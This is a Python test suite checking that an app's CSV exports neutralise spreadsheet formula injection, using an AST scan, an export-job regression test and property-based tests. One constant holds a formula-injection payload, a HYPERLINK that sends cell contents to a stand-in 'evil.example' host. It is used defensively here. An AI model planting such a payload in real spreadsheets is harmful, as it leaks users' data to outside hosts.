"""Every CSV and XLSX the app writes goes through ``core.tabular``, which writes text that
a spreadsheet would run as a formula as text (issue 12, item 10: the register export job
wrote ``=`` cells as formulas with its own ``csv.writer``)."""
import ast
import csv
import datetime as dt
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from red_property.core.tabular import FORMULA_START, SafeCSVWriter
from red_property.core.tenancy import tenant_scope
from red_property.extensions import db
from tests.conftest import run_worker
from tests.factories import make_community, make_contract

PACKAGE = Path(__file__).resolve().parent.parent / "red_property"
WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"点击")'


def test_no_module_writes_a_table_but_core_tabular():
    """One export path: a new ``csv.writer`` or ``Workbook`` elsewhere would skip the guard."""
    found = []
    for path in PACKAGE.rglob("*.py"):
        if path == PACKAGE / "core" / "tabular.py":
            continue
        tree = ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                    and (node.value.id, node.attr) in WRITERS:
                found.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and any((node.module, a.name) in WRITERS for a in node.names):
                found.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert not found, found


def test_the_register_export_job_writes_formulas_as_text(app, api, world):
    with app.app_context(), tenant_scope(db.session, world.bureau) as s:
        community = make_community(s, EVIL)
        make_contract(s, community, world.a, dt.date(2020, 1, 1))
        s.commit()
    token = api.token("a-staff@test.cn")
    job_id = api.post("/api/v1/jobs/exports/community-register", token).get_json()["id"]
    run_worker(app)
    download = api.get(f"/api/v1/jobs/{job_id}/download", token)
    rows = list(csv.reader(io.StringIO(download.get_data().decode("utf-8-sig"))))
    download.close()
    assert ["'" + EVIL] == [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]


CELLS = st.one_of(st.text(max_size=12), st.sampled_from(FORMULA_START).flatmap(
    lambda start: st.text(max_size=8).map(lambda rest: start + rest)), st.integers(), st.none())


@settings(database=None, deadline=None)
@given(st.lists(st.lists(CELLS, min_size=1, max_size=5), max_size=5))
def test_no_text_cell_reads_back_as_a_formula(rows):
    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerows(rows)
    back = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(back) == len(rows)
    for written, read in zip(rows, back):
        for value, cell in zip(written, read):
            if isinstance(value, str):
                assert cell == ("'" + value if value.startswith(FORMULA_START) else value)
                assert not cell.startswith(FORMULA_START)
